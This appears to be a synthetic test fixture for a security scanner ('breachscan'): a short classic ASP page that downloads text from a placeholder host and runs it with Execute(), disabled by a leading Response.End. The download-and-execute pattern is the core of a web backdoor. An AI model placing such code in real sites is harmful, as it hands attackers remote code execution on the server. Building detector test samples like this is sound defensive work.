<%
' synthetic test sample for breachscan: code fetched over HTTP and executed. Inert: Response.End first.
Response.End
Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", "http://example.invalid/sample.txt", False
h.Send
code = h.responseText
Execute(code)
%>
